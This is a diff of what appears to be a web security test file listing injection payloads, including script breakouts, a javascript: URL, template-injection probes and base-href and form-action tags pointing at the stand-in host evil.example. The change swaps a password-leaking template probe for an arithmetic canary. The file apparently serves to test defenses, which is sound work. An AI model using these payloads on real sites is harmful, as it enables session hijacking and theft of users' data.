@@ -2,6 +2,7 @@
 
 OUTSIDE = "evil.example"
 MARK = "gevaar"  # a tag, an attribute and a word that no page of ours has
+WORKED_OUT = "28676052"  # stands on a page where somebody's words were taken for a template
 # Each is tried whole; the short ones fit in the shortest column.
 SCRIPTS = [
     f"<{MARK} on{MARK}=1>",
@@ -23,7 +24,7 @@ SCRIPTS = [
     f"<base href=//{OUTSIDE}/>",
     f"<form action=//{OUTSIDE}/><button>x",
     "javascript:window.__pwned=1",
-    "{{ request.user.password }}{% debug %}",
+    f"{{{{ 1 }}}}{{% widthratio {3 * int(WORKED_OUT)} 3 1 %}}",
     "<a hx-get=/me/ hx-trigger=load data-logout=/x>",
     "\u202e<b>\u2028\u2029</b>",
     "]]><script>window.__pwned=1</script><!--",
